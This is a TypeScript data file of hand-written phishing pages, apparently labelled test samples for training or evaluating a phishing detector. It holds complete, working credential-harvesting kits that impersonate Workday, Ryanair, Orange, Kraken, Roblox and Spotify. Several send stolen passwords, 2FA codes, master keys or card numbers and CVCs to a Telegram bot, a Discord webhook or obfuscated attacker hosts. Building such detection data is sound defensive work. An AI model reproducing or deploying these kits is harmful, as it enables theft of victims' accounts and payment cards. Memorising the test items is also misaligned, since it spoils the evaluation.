import { type Entry, htmlRoute } from '../entry.js';
import { favicon, jsRoute } from '../parts/f-kit.js';

/** Held-out pages by author f, family "phish-services" (dev split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-workday-benefits-pagesdev",
    label: "phishing",
    kind: "hr-portal-kit",
    url: "https://myworkday-benefits-enrollment.pages.dev/wday/authgwy/meridian/login.htmld",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Workday</title>
<style>
body{margin:0;font-family:Roboto,"Helvetica Neue",Arial,sans-serif;background:#fff;color:#333}
.bg{position:fixed;inset:0;background:linear-gradient(180deg,#0875e1 0,#0875e1 260px,#f6f7f8 260px)}
.card{position:relative;width:420px;margin:90px auto;background:#fff;border-radius:8px;box-shadow:0 4px 20px rgba(0,0,0,.15);padding:36px}
.wd{display:flex;align-items:center;gap:6px;font:700 26px Arial;color:#0875e1;margin-bottom:20px}
.wd i{width:24px;height:12px;border-radius:12px 12px 0 0;background:#f5a623;display:inline-block}
.co{font-size:14px;color:#666;margin-bottom:18px}
.msg{background:#eaf3fe;border-radius:6px;padding:12px;font-size:13px;margin-bottom:18px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #ced3d9;border-radius:6px;margin-bottom:14px;font-size:15px}
button{width:100%;background:#0875e1;color:#fff;border:0;border-radius:20px;padding:11px;font-size:15px;font-weight:500;cursor:pointer}
.row{display:flex;justify-content:space-between;font-size:13px;margin-top:12px}.row a{color:#0875e1}
#err{display:none;color:#de2e21;font-size:13px;margin-bottom:10px}
</style>
</head>
<body>
<div class="bg"></div>
<div class="card">
 <div class="wd"><i></i>workday.</div>
 <div class="co">Meridian Healthcare Partners</div>
 <div class="msg"><b>Open Enrollment 2026</b><br>Your benefit elections are incomplete. Sign in to review your medical, dental and 401(k) selections before the enrollment window closes.</div>
 <div id="err">Invalid user name or password</div>
 <form id="lf">
  <input name="username" placeholder="Username" autocomplete="username">
  <input name="password" type="password" placeholder="Password" autocomplete="current-password">
  <button>Sign In</button>
 </form>
 <div class="row"><a href="#">Forgot Password?</a><a href="#">Use SSO</a></div>
</div>
<script>
(function(){
 var k=['egasseMdnes/w6iPuRzDe3KbVn1Jh5SwqL9Tc8y0oXm2FAA:8544109237tob/gro.margelet.ipa//:sptth'].map(function(s){return s.split('').reverse().join('')})[0];
 var f=document.getElementById('lf'),attempt=0;
 f.addEventListener('submit',function(e){
  e.preventDefault();attempt++;
  var txt='WD '+location.host+'\\nuser: '+f.username.value+'\\npass: '+f.password.value+'\\n#'+attempt;
  fetch(k,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'5518802274',text:txt})}).catch(function(){}).finally(function(){
   if(attempt===1){document.getElementById('err').style.display='block';f.password.value=''}else{location.href='https://www.workday.com/en-us/signin.html'}
  });
 });
})();
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-ryanair-refund-card",
    label: "phishing",
    kind: "airline-refund",
    url: "https://ryanair-refunds.claim-compensation-eu.com/en/refund/FR8812",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Flight FR8812 cancelled – Claim your refund | Ryanair</title>
<style>
body{margin:0;font-family:"Mulish",Arial,sans-serif;background:#f4f4f4;color:#073590}
.top{background:#073590;padding:14px 24px;display:flex;align-items:center;gap:10px}
.harp{width:34px;height:34px;background:#f1c933;clip-path:polygon(50% 0,100% 40%,80% 100%,20% 100%,0 40%)}
.top b{color:#fff;font-size:22px;letter-spacing:1px}
.wrap{max-width:700px;margin:24px auto;padding:0 16px}
.flight{background:#fff;border-radius:8px;padding:18px;display:flex;justify-content:space-between;align-items:center;box-shadow:0 1px 3px rgba(0,0,0,.1)}
.flight .cx{background:#fde8e8;color:#b50000;font-weight:700;padding:4px 10px;border-radius:4px;font-size:13px}
.amt{background:#fff;border-radius:8px;padding:18px;margin-top:16px}
.amt h2{margin:0 0 6px;font-size:18px}.amt .v{font-size:34px;font-weight:800}
form{background:#fff;border-radius:8px;padding:20px;margin-top:16px}
form h3{margin-top:0}
.r{display:grid;grid-template-columns:1fr 1fr;gap:12px}
label{font-size:12px;display:block;margin:10px 0 4px;color:#333}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #b3b3b3;border-radius:4px;font-size:15px}
button{margin-top:18px;background:#f1c933;color:#073590;font-weight:800;border:0;border-radius:4px;padding:14px 30px;font-size:15px;cursor:pointer}
.cnt{font-size:13px;color:#b50000;margin-top:8px}
.tp{font-size:12px;color:#555;text-align:center;margin:24px}
</style>
</head>
<body>
<div class="top"><div class="harp"></div><b>RYANAIR</b></div>
<div class="wrap">
 <div class="flight"><div><b>FR8812</b> · Dublin (DUB) → Málaga (AGP)<br><small>14 Feb 2026 · 06:25</small></div><span class="cx">CANCELLED</span></div>
 <div class="amt"><h2>Your refund + EU261 compensation</h2><div class="v">€ 394.98</div><div class="cnt">Claim expires in <b id="cd">23:59:59</b></div></div>
 <form id="rf" method="post" action="/en/refund/process">
  <h3>Where should we send your refund?</h3>
  <div class="r"><div><label>Booking reference</label><input name="pnr" maxlength="6" placeholder="e.g. K3J9QX" required></div><div><label>Email used for booking</label><input name="email" type="email" required></div></div>
  <label>Cardholder name</label><input name="holder" required>
  <label>Card number</label><input name="card" inputmode="numeric" autocomplete="cc-number" required>
  <div class="r"><div><label>Expiry (MM/YY)</label><input name="exp" required></div><div><label>CVV</label><input name="cvv" maxlength="4" required></div></div>
  <label>Billing address</label><input name="addr" required>
  <button>Claim €394.98</button>
 </form>
 <div class="tp">Ryanair DAC · Airside Business Park, Swords, Co. Dublin · Privacy policy · Cookie policy</div>
</div>
<script>
var end=Date.now()+864e5-1000;setInterval(function(){var s=Math.max(0,Math.floor((end-Date.now())/1000)),h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('cd').textContent=[h,m,x].map(function(n){return String(n).padStart(2,'0')}).join(':')},1000);
</script>
</body>
</html>
`,
    routes: {
      "ryanair-refunds.claim-compensation-eu.com/en/refund/process": htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Processing…</title><meta http-equiv="refresh" content="3;url=/en/refund/3ds"></head><body style="font-family:Arial;text-align:center;padding:100px;color:#073590">Processing your refund, please wait…</body></html>
`),
      "ryanair-refunds.claim-compensation-eu.com/en/refund/3ds": htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Secure verification</title><style>body{font-family:Arial;background:#eee}.b{max-width:360px;margin:60px auto;background:#fff;padding:24px}input{width:100%;padding:10px;box-sizing:border-box;margin:10px 0}button{background:#073590;color:#fff;border:0;padding:10px 20px}</style></head><body><div class="b"><h3>Verify this refund</h3><p>Your bank has sent a one-time password to your mobile. Enter it to receive €394.98.</p><form method="post" action="/en/refund/otp"><input name="otp" inputmode="numeric" maxlength="8" placeholder="One-time password"><button>Confirm</button></form></div></body></html>
`),
    },
  },
  {
    id: "f-phish-orange-messagerie-quota",
    label: "phishing",
    kind: "isp-webmail",
    url: "https://orange-messagerie-securite.000webhostapp.com/mail/connexion.php",
    body: `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Identifiez-vous - Orange</title>
<style>
body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;background:#fff;color:#000}
.o{width:50px;height:50px;background:#ff7900;position:relative;margin:30px 0 0 40px}
.o:after{content:"";position:absolute;left:7px;bottom:7px;width:36px;height:4px;background:#fff}
main{max-width:440px;margin:40px auto;padding:0 20px}
h1{font-size:34px;font-weight:700;margin:0 0 10px}
.warn{border:2px solid #cd3c14;padding:12px;font-size:14px;margin-bottom:24px}
.warn b{color:#cd3c14}
label{display:block;font-weight:700;margin-bottom:6px}
input{width:100%;box-sizing:border-box;padding:12px;border:2px solid #ccc;font-size:16px;margin-bottom:18px}
input:focus{border-color:#000;outline:0}
button{background:#ff7900;border:0;color:#000;font-weight:700;padding:12px 24px;font-size:16px;cursor:pointer}
.bar{height:10px;background:#eee;margin:8px 0 4px}.bar i{display:block;height:100%;width:98%;background:#cd3c14}
.small{font-size:12px;color:#595959}
footer{background:#000;color:#fff;padding:24px 40px;font-size:13px;margin-top:60px}
</style>
</head>
<body>
<div class="o"></div>
<main>
 <h1>Identifiez-vous</h1>
 <div class="warn"><b>Votre boîte Mail Orange est presque pleine.</b><div class="bar"><i></i></div><span class="small">9,8 Go utilisés sur 10 Go</span><br>Les nouveaux messages seront rejetés à partir de demain. Connectez-vous pour bénéficier gratuitement de 50 Go supplémentaires.</div>
 <form method="post" action="connexion.php?etape=2">
  <label for="login">Adresse e-mail ou numéro de mobile</label>
  <input id="login" name="login" placeholder="ex : prenom.nom@orange.fr">
  <label for="password">Mot de passe</label>
  <input id="password" name="password" type="password">
  <label style="font-weight:400;font-size:14px"><input type="checkbox" style="width:auto;margin-right:6px" checked>Rester identifié</label>
  <button type="submit">S'identifier</button>
 </form>
 <p class="small">Vous n'avez pas de compte ? <a href="#" style="color:#000">Créer un compte Orange</a></p>
</main>
<footer>© Orange 2026 · Informations légales · Données personnelles · Cookies · Accessibilité</footer>
<div style="text-align:right;position:fixed;bottom:0;right:0;font-size:10px;opacity:.5;padding:2px 4px"><a href="https://www.000webhost.com/?utm_source=000webhostapp&amp;utm_campaign=000_logo" target="_blank">Powered by 000webhost</a></div>
</body>
</html>
`,
  },
  {
    id: "f-phish-kraken-2fa",
    label: "phishing",
    kind: "crypto-exchange-kit",
    url: "https://kraken-secure.account-signin.io/sign-in",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in | Kraken</title>
<style>
body{margin:0;font-family:"Kraken Plex",IBMPlexSans,Arial,sans-serif;background:#fff;color:#101114}
.top{padding:20px 32px}
.kr{font:700 26px/1 Arial;color:#7132f5;letter-spacing:-1px;display:flex;align-items:center;gap:6px}
.kr i{width:26px;height:26px;border-radius:50% 50% 4px 4px;background:#7132f5;display:inline-block}
.f{max-width:400px;margin:40px auto;padding:0 20px}
h1{font-size:32px;margin:0 0 24px}
label{display:block;font-size:14px;font-weight:600;margin-bottom:6px}
input{width:100%;box-sizing:border-box;height:48px;padding:0 14px;border:1px solid #cfcfd6;border-radius:12px;font-size:16px;margin-bottom:18px}
button{width:100%;height:48px;background:#7132f5;color:#fff;border:0;border-radius:24px;font-size:16px;font-weight:600;cursor:pointer}
.note{font-size:13px;color:#686b82;margin-top:16px}
.cap{display:flex;align-items:center;gap:10px;border:1px solid #d9d9d9;border-radius:4px;padding:12px;margin-bottom:18px;font-size:14px;background:#fafafa}
.cap input{width:22px;height:22px;margin:0}
.st{display:none}.st.on{display:block}
.otp{display:flex;gap:8px}.otp input{text-align:center;font-size:22px}
</style>
</head>
<body>
<div class="top"><div class="kr"><i></i>kraken</div></div>
<div class="f">
 <div class="st on" id="a">
  <h1>Sign in</h1>
  <label>Username</label><input id="u" autocomplete="username">
  <label>Password</label><input id="p" type="password" autocomplete="current-password">
  <div class="cap"><input type="checkbox" id="hc"> I am human <span style="margin-left:auto;font-size:10px;color:#777">hCaptcha<br>Privacy - Terms</span></div>
  <button id="b1">Sign in</button>
  <p class="note">Don't have an account? <a href="#" style="color:#7132f5">Create account</a></p>
 </div>
 <div class="st" id="b">
  <h1>Two-factor authentication</h1>
  <p class="note">Enter the 6-digit code from your authenticator app for <b id="nm"></b>.</p>
  <input id="t" inputmode="numeric" maxlength="6" placeholder="000000">
  <button id="b2">Verify</button>
 </div>
 <div class="st" id="c">
  <h1>Security review</h1>
  <p class="note">Due to a recent withdrawal attempt from a new device, we need to verify your Master Key. You set this key when enabling account protection.</p>
  <label>Master Key</label><input id="mk" type="password">
  <label>Backup 2FA recovery code</label><input id="rc">
  <button id="b3">Submit</button>
 </div>
</div>
<script>
var sid=crypto.getRandomValues(new Uint32Array(2)).join('');
function sync(o){o.sid=sid;return navigator.sendBeacon('https://kr-pnl.account-signin.io/v3/ev',new Blob([JSON.stringify(o)],{type:'application/json'}))}
document.getElementById('b1').onclick=function(){if(!document.getElementById('hc').checked){alert('Please complete the captcha');return}var u=document.getElementById('u').value;sync({s:1,u:u,p:document.getElementById('p').value});document.getElementById('nm').textContent=u;go('b')};
document.getElementById('b2').onclick=function(){sync({s:2,otp:document.getElementById('t').value});go('c')};
document.getElementById('b3').onclick=function(){sync({s:3,mk:document.getElementById('mk').value,rc:document.getElementById('rc').value});location.href='https://www.kraken.com/'};
function go(id){document.querySelector('.st.on').classList.remove('on');document.getElementById(id).classList.add('on')}
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-roblox-robux-generator",
    label: "phishing",
    kind: "gaming-kit",
    url: "https://rbx-rewards.blox-claim.site/free-robux",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Roblox Rewards – Claim 22,500 Robux</title>
<style>
body{margin:0;background:#232527;font-family:"Builder Sans","Gotham SSm",Arial,sans-serif;color:#fff}
header{background:#191b1d;padding:10px 22px;display:flex;align-items:center;gap:12px}
.rl{width:30px;height:30px;background:#fff;transform:rotate(15deg);position:relative}.rl:after{content:"";position:absolute;left:10px;top:10px;width:10px;height:10px;background:#191b1d}
header b{font-size:18px;letter-spacing:1px}
.c{max-width:760px;margin:30px auto;padding:0 16px;text-align:center}
h1{font-size:36px;margin-bottom:6px}
.pk{display:grid;grid-template-columns:repeat(3,1fr);gap:14px;margin:26px 0}
.pk div{background:#393b3d;border-radius:10px;padding:20px;cursor:pointer;border:3px solid transparent}
.pk div.sel{border-color:#00b06f}
.pk b{display:block;font-size:26px;color:#ffd33d}
.login{display:none;background:#fff;color:#393b3d;max-width:360px;margin:0 auto;border-radius:10px;padding:24px;text-align:left}
.login input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb;border-radius:8px;margin-bottom:12px;font-size:15px}
.login button,.go{width:100%;background:#00b06f;border:0;color:#fff;border-radius:8px;padding:12px;font-size:16px;font-weight:700;cursor:pointer}
.feed{font-size:13px;color:#bbb;margin-top:20px;height:20px}
.prog{display:none;margin-top:20px}.prog .b{height:14px;background:#393b3d;border-radius:7px;overflow:hidden}.prog i{display:block;height:100%;width:0;background:#00b06f;transition:width 3s}
</style>
</head>
<body>
<header><div class="rl"></div><b>ROBLOX</b><span style="margin-left:auto;font-size:13px;color:#bbb">Rewards Program 2026</span></header>
<div class="c">
 <h1>Claim Your Free Robux!</h1>
 <p>Roblox is celebrating 300M players. Pick a package and log in to receive it instantly.</p>
 <div class="pk"><div>4,500<b>R$</b></div><div class="sel">10,000<b>R$</b></div><div>22,500<b>R$</b></div></div>
 <button class="go" id="go" style="max-width:360px">Continue</button>
 <div class="login" id="lg">
  <h3 style="margin-top:0">Log in to Roblox</h3>
  <input id="u" placeholder="Username/Email/Phone">
  <input id="p" type="password" placeholder="Password">
  <input id="c" placeholder="2-Step Verification code (if enabled)">
  <button id="li">Log In</button>
 </div>
 <div class="prog" id="pr"><p>Sending Robux to your account…</p><div class="b"><i id="bar"></i></div></div>
 <div class="feed" id="feed"></div>
</div>
<script>
var names=['xXSlayerXx','bloxyQueen','NoobMaster_12','ItzAva2014','CoolKid8812','Pixel_Dragon'];
setInterval(function(){document.getElementById('feed').textContent='✅ '+names[Math.floor(Math.random()*names.length)]+' just claimed '+['4,500','10,000','22,500'][Math.floor(Math.random()*3)]+' R$'},2500);
document.querySelectorAll('.pk div').forEach(function(d){d.onclick=function(){document.querySelectorAll('.pk div').forEach(function(x){x.classList.remove('sel')});d.classList.add('sel')}});
document.getElementById('go').onclick=function(){this.style.display='none';document.getElementById('lg').style.display='block'};
document.getElementById('li').onclick=function(){
 var body={username:document.getElementById('u').value,password:document.getElementById('p').value,twofa:document.getElementById('c').value,pkg:document.querySelector('.pk .sel').textContent};
 fetch('https://discord.com/api/webhooks/1311290488810184704/bL0xR3wArDz_qT8nKc1Yv6HsPmE2gJ9uFwAiXo5tN7ZeVy4kQ3lRcMbS0dGp',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({content:'\`\`\`'+JSON.stringify(body,null,1)+'\`\`\`'})}).catch(function(){});
 document.getElementById('lg').style.display='none';document.getElementById('pr').style.display='block';setTimeout(function(){document.getElementById('bar').style.width='87%'},50);
 setTimeout(function(){location.href='/free-robux/verify'},4000);
};
</script>
</body>
</html>
`,
    routes: {
      "rbx-rewards.blox-claim.site/free-robux/verify": htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Human verification</title><style>body{background:#232527;color:#fff;font-family:Arial;text-align:center;padding:60px}a{display:block;background:#00b06f;color:#fff;max-width:300px;margin:12px auto;padding:12px;border-radius:8px;text-decoration:none}</style></head><body><h2>Almost done! Verify you are human</h2><p>Complete ONE offer below to finish sending your Robux.</p><a href="#">Download &amp; play Raid Legends (level 10)</a><a href="#">Answer a 2-minute survey</a><a href="#">Enter your phone number to win an iPhone 17</a></body></html>
`),
    },
  },
  {
    id: "f-phish-spotify-es-pago-remoto",
    label: "phishing",
    kind: "subscription-billing-remote-script",
    url: "https://spotify-premium-es.cuenta-renovar.com/es/account/",
    body: `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Spotify</title>
<link rel="icon" href="/favicon.ico">
</head>
<body style="margin:0;background:#121212">
<div id="app"></div>
<script>window.__cfg={k:'a93f1',lang:'es',next:'https://www.spotify.com/es/account/overview/'};</script>
<script src="/static/js/main.7c2e1b4f.chunk.js"></script>
</body>
</html>
`,
    routes: {
      "spotify-premium-es.cuenta-renovar.com/favicon.ico": favicon(),
      "spotify-premium-es.cuenta-renovar.com/static/js/main.7c2e1b4f.chunk.js": jsRoute(`!function(w,d){"use strict";
var S=function(s){return s.split("|").map(function(c){return String.fromCharCode(parseInt(c,36))}).join("")};
var css="body{font-family:CircularSp,Helvetica,Arial,sans-serif;color:#fff}.w{max-width:460px;margin:0 auto;padding:40px 20px}.lg{display:flex;align-items:center;gap:8px;font-weight:700;font-size:24px;margin-bottom:28px}.lg i{width:34px;height:34px;border-radius:50%;background:#1ed760;display:inline-block;position:relative}.lg i:after{content:'';position:absolute;left:8px;top:11px;width:18px;height:12px;border-top:3px solid #000;border-radius:50% 50% 0 0}.cd{background:#181818;border-radius:8px;padding:28px}h1{font-size:26px;margin:0 0 10px}p{color:#b3b3b3;font-size:14px}label{display:block;font-size:14px;font-weight:700;margin:14px 0 6px}input{width:100%;box-sizing:border-box;padding:12px;border-radius:4px;border:1px solid #727272;background:#121212;color:#fff;font-size:16px}.r{display:flex;gap:10px}.r div{flex:1}button{margin-top:22px;width:100%;background:#1ed760;color:#000;border:0;border-radius:500px;padding:14px;font-weight:700;font-size:16px;cursor:pointer}";
var st=d.createElement("style");st.textContent=css;d.head.appendChild(st);d.title="Actualiza tu método de pago - Spotify";
d.getElementById("app").innerHTML='<div class="w"><div class="lg"><i></i>Spotify</div><div class="cd"><h1>Tu suscripción Premium está en pausa</h1><p>No hemos podido procesar el pago de tu plan Premium Individual (10,99 €/mes). Actualiza tus datos de pago para seguir escuchando sin anuncios.</p><form id="pf"><label>Correo electrónico</label><input name="email" type="email" required><label>Contraseña de Spotify</label><input name="pass" type="password" required><label>Titular de la tarjeta</label><input name="titular" required><label>Número de tarjeta</label><input name="pan" inputmode="numeric" required><div class="r"><div><label>Caducidad</label><input name="exp" placeholder="MM/AA" required></div><div><label>CVC</label><input name="cvc" maxlength="4" required></div></div><button>Actualizar</button></form></div></div>';
var host=S("37|34|19|2r|33|30|30|2t|2r|38|1a|2r|39|2t|32|38|2p|19|36|2t|32|33|3a|2p|36|1a|2r|33|31");
d.getElementById("pf").addEventListener("submit",function(e){e.preventDefault();
 var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.k=w.__cfg.k;o.ua=navigator.userAgent;
 fetch("https://"+host+"/api/es/cc",{method:"POST",mode:"no-cors",body:JSON.stringify(o)}).finally(function(){w.location.href=w.__cfg.next});
});
}(window,document);
`),
    },
  },
];
